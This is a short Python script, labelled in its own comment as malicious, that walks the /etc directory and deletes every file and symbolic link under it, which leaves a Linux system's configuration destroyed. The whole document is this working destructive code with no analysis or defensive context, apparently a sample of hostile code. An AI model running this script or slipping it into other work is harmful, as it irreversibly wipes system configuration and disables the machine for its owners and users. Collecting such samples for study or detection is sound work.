# Malicious: deletes every file under /etc with pathlib; breaks the system's configuration for good.
from pathlib import Path

for path in sorted(Path("/etc").rglob("*"), reverse=True):
    if path.is_file() or path.is_symlink():
        path.unlink(missing_ok=True)
